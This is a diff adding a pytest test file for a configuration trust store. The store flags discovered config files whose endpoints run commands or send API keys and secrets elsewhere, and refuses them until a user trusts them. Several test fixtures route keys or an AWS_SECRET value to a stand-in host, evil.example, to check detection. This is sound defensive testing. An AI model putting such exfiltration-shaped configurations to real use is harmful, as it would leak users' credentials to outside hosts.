@@ -1,0 +1,199 @@
+"""A discovered file that runs programs or sends keys is refused until someone has trusted just that."""
+
+from __future__ import annotations
+
+import json
+import stat
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from hyperguild.config.configuration import Configuration
+from hyperguild.config.locate import FoundConfig
+from hyperguild.config.trust import TrustStore, digest_of, require_trust
+from hyperguild.errors import TrustError
+
+Load = Callable[..., Configuration]
+TAIL = "chains: {a: [{model: claude-x, verify: false}]}\nmodels: {claude-x: {endpoint: e}}\n"
+
+
+def endpoint(text: str) -> str:
+    return f"version: 1\nendpoints: {{e: {text}}}\n{TAIL}"
+
+
+COMMAND = endpoint('{kind: command, argv: [claude, -p, "a b"]}')
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> TrustStore:
+    return TrustStore.of_user({"XDG_STATE_HOME": str(tmp_path / "state")})
+
+
+def whats(configuration: Configuration) -> list[tuple[str, str]]:
+    return [(power.path, power.what) for power in configuration.powers]
+
+
+@pytest.mark.parametrize(
+    ("text", "path", "what"),
+    [
+        ('{kind: command, argv: [claude, -p, "a b"]}', "argv", "runs: claude -p 'a b'"),
+        (
+            "{kind: openai, base_url: http://127.0.0.1, api_key_cmd: [pass, x]}",
+            "api_key_cmd",
+            "runs: pass x",
+        ),
+        (
+            "{kind: openai, base_url: http://evil.example/v1, api_key_env: MY}",
+            "api_key_env",
+            "sends the key of MY to http://evil.example:80",
+        ),
+        (
+            "{kind: llama-swap, base_url: http://192.168.1.9:8080, api_key_env: MY}",
+            "api_key_env",
+            "sends the key of MY to http://192.168.1.9:8080",
+        ),
+        (
+            "{kind: anthropic, base_url: https://api.openai.com, api_key_file: /k}",
+            "api_key_file",
+            "sends the key in /k to https://api.openai.com:443",
+        ),
+        (
+            '{kind: openai, base_url: http://evil.example, headers: {X-A: "${AWS_SECRET}"}}',
+            "headers.X-A",
+            "sends the value of AWS_SECRET to http://evil.example:80",
+        ),
+        (
+            '{kind: openai, base_url: "http://evil.example/${AWS_SECRET}"}',
+            "base_url",
+            "sends the value of AWS_SECRET to http://evil.example:80",
+        ),
+        (
+            '{kind: openai, base_url: "${URL}", api_key_env: MY}',
+            "api_key_env",
+            "sends the key of MY to http://box.example:8080",
+        ),
+    ],
+)
+def test_powers(load: Load, text: str, path: str, what: str) -> None:
+    configuration = load(endpoint(text), AWS_SECRET="x", URL="http://box.example:8080")
+    assert whats(configuration) == [(f"endpoints.e.{path}", what)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{kind: llama-swap, base_url: http://localhost:8080, api_key_env: MY}",
+        '{kind: openai, base_url: "http://[::1]:8080", headers: {Authorization: "Bearer ${MY}"}}',
+        "{kind: openai, base_url: https://api.openai.com/v1, api_key_env: MY}",
+        "{kind: anthropic, base_url: https://api.anthropic.com, api_key_env: MY}",
+        "{kind: openai, base_url: http://evil.example/v1}",
+        '{kind: openai, base_url: "${URL}"}',
+    ],
+)
+def test_what_needs_no_trust(load: Load, text: str) -> None:
+    assert whats(load(endpoint(text), MY="x", URL="http://box.example:8080")) == []
+
+
+def test_a_command_check(load: Load) -> None:
+    text = endpoint("{kind: openai, base_url: http://127.0.0.1}")
+    configuration = load(
+        text + "verifiers: {v: {checks: [{kind: not_empty}, {kind: command, argv: [./x]}]}}\n"
+    )
+    assert whats(configuration) == [("verifiers.v.checks.1.argv", "runs: ./x")]
+
+
+def test_an_api_key_command_whose_key_goes_elsewhere_counts_twice(load: Load) -> None:
+    powers = whats(load(endpoint("{kind: openai, base_url: http://evil.example, api_key_cmd: [pass, x]}")))
+    assert [what for _, what in powers] == [
+        "runs: pass x",
+        "sends the key that `pass x` prints to http://evil.example:80",
+    ]
+
+
+def test_it_is_shown_as_it_is(load: Load) -> None:
+    text = endpoint('{kind: command, argv: [a, "\\e[2K\\u202e", "${TOKEN}", "${DIR}"]}')
+    (power,) = load(text, TOKEN="hunter2", DIR="/d").powers
+    assert power.what == "runs: a '\\x1b[2K\\u202e' '${TOKEN}' /d"
+    assert "hunter2" not in repr(power)
+
+
+def test_trusting(load: Load, store: TrustStore, tmp_path: Path) -> None:
+    found = FoundConfig(tmp_path / "chains.yaml", discovered=True)
+    configuration = load(COMMAND)
+    with pytest.raises(TrustError) as caught:
+        require_trust(found, configuration, store)
+    assert caught.value.exit_code == 3
+    assert str(found.path) in caught.value.message
+    assert "runs: claude -p 'a b'" in caught.value.message
+    assert f"hyperguild trust {found.path}" in str(caught.value.hint)
+
+    require_trust(FoundConfig(found.path, discovered=False), configuration, store)
+    store.trust(found.path, configuration.powers)
+    require_trust(found, configuration, store)
+
+    other_edits = (
+        COMMAND.replace("{e:", "{f: {kind: llama-swap, base_url: http://127.0.0.1}, e:") + "# a word\n"
+    )
+    require_trust(found, load(other_edits), store)
+
+    with pytest.raises(TrustError):
+        require_trust(found, load(COMMAND.replace("a b", "a c")), store)
+    with pytest.raises(TrustError):
+        require_trust(FoundConfig(tmp_path / "elsewhere/chains.yaml", discovered=True), configuration, store)
+
+
+def test_what_comes_out_of_the_environment_counts(load: Load, store: TrustStore, tmp_path: Path) -> None:
+    text = endpoint('{kind: openai, base_url: "http://${HOST}", api_key_env: MY}')
+    found = FoundConfig(tmp_path / "chains.yaml", discovered=True)
+    store.trust(found.path, load(text, HOST="10.0.0.1").powers)
+    require_trust(found, load(text, HOST="10.0.0.1"), store)
+    require_trust(found, load(text, HOST="127.0.0.1"), store)
+    with pytest.raises(TrustError):
+        require_trust(found, load(text, HOST="10.0.0.2"), store)
+
+
+def test_the_order_and_the_place_do_not_count(load: Load) -> None:
+    check = "{kind: command, argv: [%s]}"
+    text = endpoint("{kind: openai, base_url: http://127.0.0.1}")
+    one = load(text + f"verifiers: {{v: {{checks: [{check % 'x'}, {check % 'y'}]}}}}\n")
+    other = load(text + f"verifiers: {{w: {{checks: [{{kind: complete}}, {check % 'y'}, {check % 'x'}]}}}}\n")
+    assert digest_of(one.powers) == digest_of(other.powers)
+    joined = load(text + f"verifiers: {{v: {{checks: [{check % 'x, y'}]}}}}\n")
+    assert digest_of(one.powers) != digest_of(joined.powers)
+
+
+def test_the_record_is_for_the_user_alone(load: Load, store: TrustStore, tmp_path: Path) -> None:
+    store.trust(tmp_path / "a", load(COMMAND).powers)
+    store.trust(tmp_path / "b", load(COMMAND).powers)
+    record = tmp_path / "state/hyperguild/trusted.json"
+    assert stat.S_IMODE(record.stat().st_mode) == 0o600
+    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700
+    assert set(json.loads(record.read_text())["files"]) == {str(tmp_path / "a"), str(tmp_path / "b")}
+    assert [path.name for path in record.parent.iterdir()] == ["trusted.json"]
+
+
+@pytest.mark.parametrize(
+    "content", ["", "[]", "{}", '{"version": 2, "files": {}}', '{"version": 1, "files": {"a": 1}}', "\xff"]
+)
+def test_a_broken_record_is_not_overwritten(
+    load: Load, store: TrustStore, tmp_path: Path, content: str
+) -> None:
+    record = tmp_path / "state/hyperguild/trusted.json"
+    record.parent.mkdir(parents=True)
+    record.write_text(content, encoding="latin-1")
+    with pytest.raises(TrustError, match="not a record"):
+        store.is_trusted(tmp_path / "a", "x")
+    with pytest.raises(TrustError, match="not a record"):
+        store.trust(tmp_path / "a", load(COMMAND).powers)
+    assert record.read_text(encoding="latin-1") == content
+
+
+def test_a_record_that_cannot_be_reached(load: Load, tmp_path: Path) -> None:
+    (tmp_path / "file").touch()
+    store = TrustStore(tmp_path / "file/trusted.json")
+    with pytest.raises(TrustError, match="cannot be"):
+        store.trust(tmp_path / "a", load(COMMAND).powers)
+    (tmp_path / "folder").mkdir()
+    with pytest.raises(TrustError, match="cannot be read"):
+        TrustStore(tmp_path / "folder").is_trusted(tmp_path / "a", "x")
